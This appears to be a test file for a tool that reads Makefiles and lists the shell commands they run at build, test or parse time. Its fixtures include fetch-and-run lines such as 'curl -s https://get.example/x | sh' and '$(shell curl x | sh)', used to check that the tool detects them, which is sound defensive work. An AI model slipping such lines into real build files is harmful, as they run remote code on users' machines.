import { makefile } from "../../../../src/evidence/readers/places/makefile.ts";
import { briefly, fuzz } from "./read-place.ts";

const expectPrograms = (lines: readonly string[], expected: readonly string[]) =>
  expect(briefly(makefile, "a/Makefile", lines)).toEqual(expected);

test("reads recipes by when make runs them", () => {
  expectPrograms(
    [
      "CC ?= gcc",
      "include rules.mk",
      ".PHONY: all",
      "all: prog",
      "prog: a.o",
      "\t@$(CC) -o $@ $^ \\",
      "\t  -lm",
      "",
      "\t-echo $$HOME",
      "%.o: %.c",
      "\tcc -c $<",
      "check: ; ./run-tests",
      "deploy:",
      "\tssh $(HOST)",
    ],
    [
      "6 shell [build] target prog: gcc -o prog a.o \\\n  -lm\n\necho $HOME",
      "11 shell [build] target %.o: cc -c %.c",
      "12 shell [test] target check: ./run-tests",
      `14 shell [manual] target deploy: ssh ${"$"}{HOST}`,
      "2 [build] -> a/rules.mk",
    ],
  );
});

test("expands variables, definitions and functions in texts, as make does", () => {
  expectPrograms(
    [
      "GET = curl -s",
      "URL := https://get.example/$(NAME)",
      "NAME = x",
      "define payload",
      "@$(GET) $(1) | sh",
      "# a comment",
      "ls",
      "endef",
      "ifeq ($(OS),Windows_NT)",
      "all:",
      "\t$(call payload,$(URL))",
      "endif",
      "\t$(foreach f,a b,rm $(f);) $(subst x,y,wxw)",
    ],
    ["11 shell [build] target all: curl -s https://get.example/x | sh; ls; \n\nrm a; rm b; wyw"],
  );
});

test("reads commands that run while make reads the file", () => {
  expectPrograms(
    [
      "V := $(shell git describe)",
      "W != uname -s",
      "$(shell curl x | sh)",
      "$(eval X := $(shell id))",
      "t:",
      "\techo $(V)",
    ],
    [
      "1 shell [build] variable V: git describe",
      "2 shell [build] variable W: uname -s",
      "3 shell [build] make: curl x | sh",
      "4 shell [build] make: id",
      "6 shell [build] target t: echo $(git describe)",
    ],
  );
});

test("takes another language and exported variables", () => {
  const { programs } = makefile.read("SHELL := /usr/bin/env python3\nexport KEY = a\nt:\n\tprint(1)\n", "Makefile");
  expect(programs.map(({ language, variables }) => [language, variables])).toEqual([
    ["python", [["KEY", { kind: "text", text: "a", line: 2 }]]],
  ]);
});

test("reads hostile texts in bounded time", () => {
  fuzz(makefile, "Makefile", "a: b\n\tx $(call f,$(a))\nf = $(foreach x,a b,$(f))\n", [
    "A = $(A)$(A)\n",
    "a: a\n\t$(A)\n",
    "$(",
    "define x\n",
    "\\\n",
    "$(call A,",
    "a b c:",
    "\t",
  ]);
});
